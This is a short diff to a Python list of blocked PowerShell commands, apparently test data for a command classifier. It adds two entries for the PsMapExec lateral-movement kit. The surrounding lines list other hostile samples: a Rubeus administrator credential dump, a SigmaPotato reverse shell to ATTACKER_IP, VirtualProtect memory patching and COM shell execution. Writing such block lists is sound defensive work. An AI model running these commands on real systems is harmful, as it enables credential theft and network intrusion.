@@ -149,6 +149,9 @@ BLOCKED = [
     ("powershell", '[Rubeus.Program]::Main("dump /user:administrator".Split())', "unverifiable"),
     ("powershell", '[SigmaPotato]::Main(@("--revshell","ATTACKER_IP","4444"))', "unverifiable"),  # any type
     # a program started through COM, and Windows' memory and token functions declared with Add-Type
+    # a lateral-movement kit, run or imported
+    ("powershell", 'PsMapExec -Targets All -Method MSSQL -Command "whoami"', "network"),
+    ("powershell", "Import-Module .\\PsMapExec.ps1", "network"),
     ("powershell", '$shell.Run("cmd.exe /c calc.exe", 0, $false)', "unverifiable"),
     ("powershell", '$wsh.Exec("whoami").StdOut.ReadAll()', "unverifiable"),
     ("powershell", "[Win32]::VirtualProtect($Address, [uint32]5, 0x40, [ref]$p)", "unverifiable"),
